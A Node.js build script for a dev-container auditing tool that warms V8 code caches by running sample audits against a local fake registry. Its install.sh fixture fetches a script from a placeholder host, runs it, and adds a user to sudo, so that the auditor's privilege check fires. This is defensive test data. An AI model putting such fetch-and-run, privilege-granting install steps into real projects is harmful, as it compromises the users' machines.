/**
 * The part of the build that lets a start skip most of its compiling: marks each script of commands with a line of its own and writes beside it, as
 * dist/NAME.cache, the code that this version of the engine made of it. See src/machine/load-script.ts, which reads both.
 */
import { createHash, randomBytes } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Script } from 'node:vm';
import { create } from 'tar';
import { makeSandbox } from './make-sandbox.mjs';

/** `example`: a folder to audit once, so that the functions of an ordinary audit are compiled too; they are left out where it does not exist. */
export async function writeScriptCaches(dist, example) {
  await writeScriptCache(join(dist, 'commands.cjs'), async ({ audit, survey }) => {
    if (!existsSync(example)) return;
    await audit([example], { ...silent, print() {} });
    await survey(['--jobs', '1', join(example, '..')], { ...silent, print() {}, send: () => ({}) });
    await auditLookedUp(audit);
  });
  await writeScriptCache(join(dist, 'sandbox-commands.cjs'), async (runners) => {
    await lookForNone(runners);
    await compareOnce(runners);
  });
}

async function writeScriptCache(path, warm) {
  const id = `//${randomBytes(8).toString('hex')}\n`;
  const source = id + readFileSync(path, 'latin1');
  writeFileSync(path, source, 'latin1');
  const script = new Script(`(function(module,exports,require,__filename){${source}\n})`, { filename: path });
  const module = { exports: {} };
  script.runInThisContext()(module, module.exports, createRequire(path), path);
  await warm(module.exports.runners);
  writeFileSync(path.replace(/cjs$/u, 'cache'), Buffer.concat([Buffer.from(id), script.createCachedData()]));
}

/** Looks for a dev container where none is, so that the functions which look are compiled too. */
async function lookForNone({ exec, ls }) {
  const folder = mkdtempSync(join(tmpdir(), 'containai-build-'));
  const before = process.env.XDG_STATE_HOME;
  process.env.XDG_STATE_HOME = folder;
  await ls([], { ...silent, print() {} });
  await exec(['none', '--', 'true'], { ...silent, print() {} });
  if (before === undefined) delete process.env.XDG_STATE_HOME;
  else process.env.XDG_STATE_HOME = before;
  rmSync(folder, { recursive: true, force: true });
}

/** Compares a small workspace with a record of it. */
async function compareOnce({ changes }) {
  const folder = mkdtempSync(join(tmpdir(), 'containai-build-'));
  const before = process.env.XDG_STATE_HOME;
  const workspace = join(folder, 'web');
  mkdirSync(join(workspace, '.git/hooks'), { recursive: true });
  writeFileSync(join(workspace, '.git/config'), '[core]\n\tbare = false\n');
  writeFileSync(join(workspace, 'package.json'), '{ "scripts": { "test": "true" } }');
  process.env.XDG_STATE_HOME = makeSandbox(folder, workspace);
  await changes(['--accept', 'web'], { ...silent, print() {} });
  writeFileSync(join(workspace, '.git/hooks/pre-commit'), '#!/bin/sh\n');
  await changes(['web'], { ...silent, print() {} });
  if (before === undefined) delete process.env.XDG_STATE_HOME;
  else process.env.XDG_STATE_HOME = before;
  rmSync(folder, { recursive: true, force: true });
}

const silent = { version: '', complain() {}, tell() {}, isTerminal: false, width: 100, noColor: true };

/**
 * Audits a configuration whose image and Feature are looked up in a registry of the build's own, and again with all of it in the cache, so that the
 * functions of both are compiled too. Nobody else is asked.
 */
async function auditLookedUp(audit) {
  const folder = mkdtempSync(join(tmpdir(), 'containai-build-'));
  const before = { ...process.env };
  const server = createServer(serve(thingsOfRegistry(folder)));
  try {
    await new Promise((settle, fail) => server.once('error', fail).listen(0, '127.0.0.1', settle));
    const host = `localhost:${server.address().port}`;
    writeFileSync(join(folder, 'advisories.json'), '{ "disallowedFeatures": [], "featureAdvisories": [] }');
    writeFileSync(
      join(folder, '.devcontainer.json'),
      JSON.stringify({ image: `${host}/base:1`, features: { [`${host}/build/tool:1`]: {} } }),
    );
    Object.assign(process.env, {
      XDG_CACHE_HOME: folder,
      XDG_CONFIG_HOME: folder,
      DOCKER_HOST: `unix://${join(folder, 'none.sock')}`,
    });
    let report = '';
    const print = (part) => void (report += part);
    for (let run = 0; run < 2; run++)
      await audit(['--resolve', '--advisories', join(folder, 'advisories.json'), folder], { ...silent, print });
    if (!report.includes('feature-grants-rights'))
      console.error(`Lookups will start more slowly, since the one of the build failed:\n${report}`);
  } catch (error) {
    // Where nobody may listen, for instance.
    console.error(`Lookups will start more slowly, since the one of the build failed: ${error.message}`);
  } finally {
    server.closeAllConnections();
    server.close();
    for (const name of Object.keys(process.env)) if (!(name in before)) delete process.env[name];
    Object.assign(process.env, before);
    rmSync(folder, { recursive: true, force: true });
  }
}

/** What the registry has, by path: `[type, body]`. The files of the Feature are written into the folder. */
function thingsOfRegistry(folder) {
  const script =
    'set -e\ncurl -o /tmp/get https://example.test/get\nif [ -f /tmp/get ]; then sh "$(echo /tmp/get)"; fi\nusermod -aG sudo dev\n';
  const metadata = '{ "id": "tool", "version": "1.0.0", "containerEnv": { "TOOL": "1" } }';
  writeFileSync(join(folder, 'devcontainer-feature.json'), metadata);
  writeFileSync(join(folder, 'install.sh'), script);
  const archive = create({ sync: true, cwd: folder, portable: true }, ['devcontainer-feature.json', 'install.sh']).read();
  const config = Buffer.from(
    JSON.stringify({ architecture: 'amd64', os: 'linux', config: { Env: ['A=1'], Cmd: ['sh'] }, rootfs: { type: 'layers', diff_ids: [] } }),
  );
  const things = new Map();
  const manifest = 'application/vnd.oci.image.manifest.v1+json';
  const add = (name, blob, parts) => {
    const digest = digestOf(blob);
    things.set(`/v2/${name}/blobs/${digest}`, ['application/octet-stream', blob]);
    const body = Buffer.from(JSON.stringify({ schemaVersion: 2, mediaType: manifest, ...parts(digest, blob.length) }));
    for (const reference of ['1', digestOf(body)]) things.set(`/v2/${name}/manifests/${reference}`, [manifest, body]);
  };
  add('build/tool', archive, (digest, size) => ({
    config: { mediaType: 'application/vnd.devcontainers', digest: digestOf(''), size: 0 },
    layers: [{ mediaType: 'application/vnd.devcontainers.layer.v1+tar', digest, size }],
  }));
  add('base', config, (digest, size) => ({ config: { mediaType: 'application/vnd.oci.image.config.v1+json', digest, size }, layers: [] }));
  return things;
}

function serve(things) {
  return (request, response) => {
    const [type, body] = things.get(request.url) ?? [];
    response.writeHead(
      type === undefined ? 404 : 200,
      type === undefined ? {} : { 'content-type': type, 'docker-content-digest': digestOf(body) },
    );
    response.end(body);
  };
}

function digestOf(body) {
  return `sha256:${createHash('sha256').update(body).digest('hex')}`;
}
